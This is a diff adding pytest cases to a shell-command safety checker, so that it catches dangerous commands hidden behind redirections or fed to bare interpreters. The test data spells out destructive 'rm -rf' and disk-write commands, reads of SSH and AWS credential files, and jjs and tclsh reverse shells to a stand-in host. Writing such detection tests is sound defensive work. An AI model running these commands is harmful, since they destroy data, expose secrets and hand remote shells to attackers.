@@ -236,3 +236,43 @@ ORDINARY_LOOKALIKES = [
 @pytest.mark.parametrize("command", ORDINARY_LOOKALIKES)
 def test_the_ordinary_forms_of_those_programs_pass(command: str) -> None:
     assert not held(command), command
+
+
+# -- what the parser used to drop, and input an interpreter reads -----------------------------
+
+AFTER_A_REDIRECTION = [
+    "rm >/dev/null -rf /",
+    "rm 2>&1 -rf ~",
+    "cat >/tmp/out ~/.ssh/id_rsa",
+    "cat 2>/dev/null ~/.aws/credentials",
+    "sfdisk < table.dump /dev/sdb",
+]
+
+
+@pytest.mark.parametrize("command", AFTER_A_REDIRECTION)
+def test_words_after_a_redirection_are_the_commands_arguments(command: str) -> None:
+    # bash passes them to the command; tree-sitter lists them as more redirection targets.
+    assert held(command), command
+
+
+def test_words_after_a_redirection_keep_ordinary_commands_ordinary() -> None:
+    assert not held("cat >/tmp/out notes.txt")
+    assert not held("grep -r TODO 2>/dev/null src")
+
+
+REPL_INPUT = [
+    "jjs\nvar p = new java.lang.ProcessBuilder('/bin/sh').redirectErrorStream(true).start();"
+    "\nvar s = new java.net.Socket('198.51.100.4', 9001);",
+    "tclsh\nset c [socket 198.51.100.4 9001]\nexec /bin/sh <@$c >@$c 2>@$c",
+    "jshell\n/open ~/.ssh/id_ed25519",
+]
+
+
+@pytest.mark.parametrize("command", REPL_INPUT)
+def test_lines_after_an_interpreter_started_alone_are_judged_as_its_code(command: str) -> None:
+    assert held(command), command
+
+
+def test_an_interpreter_with_a_script_does_not_read_the_lines_after_it() -> None:
+    assert not held("python3 manage.py migrate\nls /tmp")
+    assert not held("tclsh\nputs hello")
